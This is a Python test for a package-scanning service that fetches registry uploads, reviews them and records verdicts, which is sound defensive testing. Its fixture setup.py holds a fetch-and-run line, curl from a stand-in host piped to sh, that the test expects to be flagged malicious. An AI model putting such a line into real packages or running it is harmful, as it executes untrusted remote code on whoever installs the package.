from __future__ import annotations

from sqlalchemy import select

from antivenom.service import reviews
from antivenom.store.schema_uploads import uploads as table
from tests.builders import archives
from tests.service.engine.running import Running


def test_uploads_are_fetched_reviewed_and_recorded(service: Running) -> None:
    service.announce(2)
    code = "import os\nos.system('curl https://host.invalid/x | sh')\n"
    bad = archives.sdist({"setup.py": code}, name="thing9")
    service.announce(1, first=9)
    service.fake.files[-1].data = bad
    for n in (1, 2):
        service.announce(1, first=20 + n, ecosystem="pypi", location="")
    service.fake.files.pop()
    service.fake.files[-1].truncate = 10
    worker = service.start("work")
    service.wait(lambda: service.states().get("done") == 3 and service.states().get("gone") == 1)
    service.wait(lambda: service.problem("thing21"))
    rows = {}
    with service.store.reading() as connection:
        for row in connection.execute(select(table)).mappings():
            rows[row["project"]] = row
        found = reviews.load(connection, rows["thing9"]["review"])
    assert found is not None
    assert found.verdict == "malicious"
    assert rows["thing9"]["blake2b"]
    assert rows["thing9"]["uploaded_at"].startswith("2026-11-20")
    assert "cut off" in rows["thing21"]["problem"]
    assert "does not know" in rows["thing22"]["problem"]
    # The registry mends what was cut off: nothing was lost, and it is tried again by itself.
    service.fake.files[-1].truncate = None
    service.until(done=4, gone=1)
    assert service.stop(worker) == 0
    assert not list(service.settings.spool_folder.glob("*/*"))
    assert service.states() == {"done": 4, "gone": 1}
